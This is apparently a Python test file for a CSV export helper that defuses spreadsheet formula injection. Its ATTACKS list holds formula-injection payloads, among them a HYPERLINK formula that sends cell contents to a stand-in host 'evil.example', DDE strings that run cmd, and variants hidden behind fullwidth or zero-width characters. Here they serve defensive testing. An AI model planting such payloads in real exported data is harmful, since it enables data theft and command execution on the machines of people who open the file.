"""CSV that spreadsheets can open: no cell is a formula, and of a text only what cannot be seen is lost."""

from __future__ import annotations

import codecs
import csv
import io
import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from monitor.text.table import MARK, csv_bytes, safe_cell

ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=1+1",
    "+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1＋1",
    "\u2060=1+1",
    "\u200e=1+1",
    "\u200b\u200d \ufeff=1+1",
    "＠SUM(1)",
    "－1",
]


def parsed(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_spreadsheet_would_run_is_text(attack: str) -> None:
    assert safe_cell(attack) == MARK + attack


@pytest.mark.parametrize("blank", [*"\t\r\n\x0b\x0c\x00\x1b\x85\u2003\u2028\u202e\u202f\u3000", "\r\n"])
def test_blanks_and_controls_hide_no_formula(blank: str) -> None:
    assert safe_cell(f"{blank}=1+1{blank}") == f"{MARK}=1+1"
    assert safe_cell(f"\u2060{blank}\u200e{blank}=1").startswith(f"{MARK}\u2060")


def test_each_line_is_one_that_can_be_shown() -> None:
    assert safe_cell("PIB:\x1b[31m https://a.example/\r\nMint:\x00\t \u202ehttps://b.example/") == (
        "PIB: [31m https://a.example/\nMint: https://b.example/"
    )


@pytest.mark.parametrize(
    "text", ["", "India and Japan = friends", "2025-05-05", "防衛", "'quoted", '"', "a\nb", "क्\u200dष"]
)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


def test_a_table_as_bytes() -> None:
    content = csv_bytes(("id", "place", "note"), [(-1, None, 'a "b", c\r\nd'), (2, "नई दिल्ली", "=1")])
    assert content == codecs.BOM_UTF8 + ('id,place,note\r\n-1,,"a ""b"", c\nd"\r\n2,नई दिल्ली,\'=1\r\n'.encode())


@given(st.lists(st.lists(st.text(st.characters(codec="utf-8")), min_size=2, max_size=2)))
def test_whatever_stands_in_cells_comes_back_and_none_is_a_formula(rows: list[list[str]]) -> None:
    header, *found = parsed(csv_bytes(("a", "b"), rows))
    assert header == ["a", "b"]
    assert found == [[safe_cell(cell) for cell in row] for row in rows]
    assert not any(re.match(r"[\s\u200b-\u200f\u2060\ufeff]*[=+@＝＋－＠-]", cell) for row in found for cell in row)
    assert not any(
        unicodedata.category(char) == "Cc" and char != "\n" for row in found for cell in row for char in cell
    )


def test_half_a_surrogate_pair_costs_no_table() -> None:
    assert parsed(csv_bytes(("a",), [("x\ud800y",)])) == [["a"], ["x y"]]
